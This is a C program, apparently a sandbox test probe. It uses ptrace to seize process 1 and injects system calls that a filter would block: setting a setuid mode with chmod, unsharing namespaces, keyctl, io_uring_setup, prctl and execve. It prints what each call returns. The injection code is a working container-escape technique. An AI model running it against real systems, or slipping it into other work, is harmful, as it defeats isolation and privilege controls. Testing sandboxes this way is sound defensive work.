/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Run in a box with CAP_SYS_PTRACE: takes over process 1, if the kernel lets it, and makes it do what the command's own
 * filter refuses. Prints a line a system call: its name and what it returned there.
 */
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef __x86_64__
int main(void) {
    puts("skipped: x86-64 only");
    return 0;
}
#else
static struct user_regs_struct found;

static long inject(long number, long a, long b, long c) {
    struct user_regs_struct regs = found;
    int status;
    regs.rip -= 2; /* the system call instruction that it was waiting in */
    regs.rax = (unsigned long)number;
    regs.orig_rax = (unsigned long)-1;
    regs.rdi = (unsigned long)a, regs.rsi = (unsigned long)b, regs.rdx = (unsigned long)c,
    regs.r10 = regs.r8 = regs.r9 = 0;
    if (ptrace(PTRACE_SETREGS, 1, 0, &regs) || ptrace(PTRACE_SINGLESTEP, 1, 0, 0) || waitpid(1, &status, __WALL) != 1 ||
        ptrace(PTRACE_GETREGS, 1, 0, &regs))
        return -1000;
    return (long)regs.rax;
}

int main(int argc, char **argv) {
    int status;
    if (ptrace(PTRACE_SEIZE, 1, 0, 0) || ptrace(PTRACE_INTERRUPT, 1, 0, 0) || waitpid(1, &status, __WALL) != 1 ||
        ptrace(PTRACE_GETREGS, 1, 0, &found)) {
        puts("process 1 cannot be traced");
        return 0;
    }
    unsigned long at = (found.rsp - 512) & ~7ul, word = 0;
    const char *path = argc > 1 ? argv[1] : "/v/prog";
    for (size_t i = 0; i <= strlen(path); i += sizeof(word)) {
        word = 0;
        memcpy(&word, path + i, strlen(path + i) < sizeof(word) ? strlen(path + i) : sizeof(word));
        ptrace(PTRACE_POKEDATA, 1, at + i, word);
    }
    printf("chmod %ld\n", inject(SYS_chmod, (long)at, 04755, 0));
    printf("unshare %ld\n", inject(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS, 0, 0));
    printf("keyctl %ld\n", inject(SYS_keyctl, 0, -3, 0));
    printf("io_uring_setup %ld\n", inject(425, 1, 0, 0));
    printf("prctl %ld\n", inject(SYS_prctl, 1, 0, 0));
    printf("execve %ld\n", inject(SYS_execve, (long)at, 0, 0));
    return 0;
}
#endif
